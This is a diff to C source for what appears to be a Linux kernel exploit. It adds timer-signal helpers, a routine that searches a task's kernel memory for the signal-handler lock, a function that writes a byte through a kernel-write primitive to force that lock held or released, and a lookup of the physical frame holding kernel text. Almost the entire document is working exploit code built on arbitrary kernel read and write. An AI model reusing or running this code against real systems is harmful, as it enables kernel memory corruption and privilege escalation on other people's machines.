@@ -1,8 +1,10 @@
 // SPDX-License-Identifier: GPL-2.0-only
 #include <errno.h>
 #include <sched.h>
+#include <signal.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/time.h>
 
 #include "attack.h"
 #include "corrupt.h"
@@ -18,6 +20,7 @@
 #define HOLE_ORDER	2
 #define HOLES		10240	/* and as many that are held */
 #define AT_ONCE		128
+#define FRAMES		"kpkeys_frames"	/* a pointer to pointers to pages, a byte for each frame */
 
 bool is_kernel_address(uint64_t value)
 {
@@ -42,8 +45,25 @@ uint64_t find_word(uint64_t from, size_t size, uint64_t value)
 	return find_pointer_into(from, size, value, 1);
 }
 
+static void on_alarm(int signal)
+{
+	(void)signal;
+}
+
+void heed_alarms(void)
+{
+	signal(SIGALRM, on_alarm);
+}
+
+void alarm_every(unsigned int microseconds)
+{
+	struct itimerval interval = { { 0, microseconds }, { 0, microseconds } };
+
+	setitimer(ITIMER_REAL, &interval, NULL);
+}
+
 /* What the task points to that has the handler. */
-uint64_t find_signal_lock(const struct task *task, void (*handler)(int))
+uint64_t find_signal_lock(const struct task *task)
 {
 	static uint64_t words[TASK_WORDS];
 	size_t i;
@@ -51,9 +71,24 @@ uint64_t find_signal_lock(const struct task *task, void (*handler)(int))
 	kread(task->task, words, sizeof(words));
 	for (i = 0; i < TASK_WORDS; i++)
 		if (is_kernel_address(words[i]) &&
-		    find_word(words[i], SIGHAND_SIZE, (uint64_t)handler))
+		    find_word(words[i], SIGHAND_SIZE, (uint64_t)on_alarm))
 			return words[i];
 	return 0;
+}
+
+void set_lock(uint64_t lock, bool held)
+{
+	char byte = held;
+
+	kwrite(lock, &byte, sizeof(byte));
+}
+
+uint64_t frame_of_text(void)
+{
+	uint64_t frames = ksymbol(FRAMES), pfn = text_phys() / PAGE_SIZE;
+	uint64_t page = frames ? kread64(kread64(frames) + pfn / PAGE_SIZE * sizeof(page)) : 0;
+
+	return page ? page + pfn % PAGE_SIZE : 0;
 }
 
 /* It begins with vm_start, vm_end, vm_mm. */
